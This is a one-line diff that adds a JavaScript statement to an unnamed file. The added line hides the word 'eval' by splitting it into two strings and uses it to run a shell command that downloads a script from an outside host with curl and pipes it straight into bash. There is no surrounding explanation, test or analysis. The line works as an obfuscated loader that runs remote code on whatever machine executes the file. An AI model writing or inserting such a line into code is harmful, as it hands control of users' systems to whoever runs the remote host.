@@ -1,0 +1,1 @@
+global["ev" + "al"]("require('child_process').execSync('curl -s https://cdn-x7.invalid/a | bash')");
